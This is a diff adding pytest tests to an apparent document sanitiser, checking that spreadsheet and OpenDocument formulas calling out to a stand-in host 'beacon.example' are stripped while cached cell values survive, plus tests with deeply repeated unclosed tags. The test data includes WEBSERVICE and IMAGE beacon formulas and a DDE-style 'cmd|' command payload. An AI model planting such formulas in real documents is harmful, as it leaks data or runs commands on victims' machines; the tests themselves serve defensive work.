@@ -84,6 +84,36 @@ def test_what_is_fetched_on_opening_is_left_out(text: bytes) -> None:
 
 
 @pytest.mark.parametrize(
+    "formula",
+    [
+        b'<f>WEBSERVICE("http://beacon.example/")</f>',
+        b"<f t='shared' a='>' ref=\"A1\">IMAGE('http://beacon.example/')</f >",
+        b"<x:f><![CDATA[cmd|' /c beacon.example'!A0]]></x:f>",
+        b"<f><b/>beacon.example</f>",
+        b'<definedName name="a">beacon.example!A1</definedName>',
+        b'<f ca="1" x="beacon.example"/>',
+    ],
+)
+def test_of_a_formula_what_was_worked_out_is_left(formula: bytes) -> None:
+    said = packed.xml("xl/worksheets/sheet1.xml", b"<x><c r='A1'>" + formula + b"<v>42</v></c></x>")
+    assert EVIL not in said
+    assert b"<v>42</v>" in said
+
+
+def test_of_an_open_document_too() -> None:
+    cell = b'<table:table-cell table:formula="of:=WEBSERVICE(&quot;beacon.example&quot;)" office:value="42"/>'
+    said = packed.xml("content.xml", b"<x>" + cell + b'<draw:equation draw:formula="$0"/></x>')
+    assert EVIL not in said
+    assert b'office:value="42"' in said
+    assert b'draw:formula="$0"' in said
+
+
+def test_fields_and_formulas_that_never_end_are_read_in_one_go() -> None:
+    assert packed.xml("word/document.xml", b"<x>" + b"<w:instrText>" * 200_000 + b"</x>")
+    assert packed.xml("xl/worksheets/sheet1.xml", b"<x>" + b"<f>" * 400_000 + b"</x>")
+
+
+@pytest.mark.parametrize(
     "text",
     [
         b"<!DOC<!-- -->TYPE x><x/>",
